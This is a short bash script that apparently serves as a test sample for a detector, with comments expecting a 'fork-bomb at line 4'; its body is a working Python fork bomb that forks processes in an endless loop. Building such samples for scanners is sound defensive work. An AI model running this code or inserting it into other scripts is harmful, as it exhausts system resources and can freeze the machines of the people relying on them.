#!/bin/bash
# shows: in Python
# expect: fork-bomb at line 4
python3 -c 'import os
while True: os.fork()'
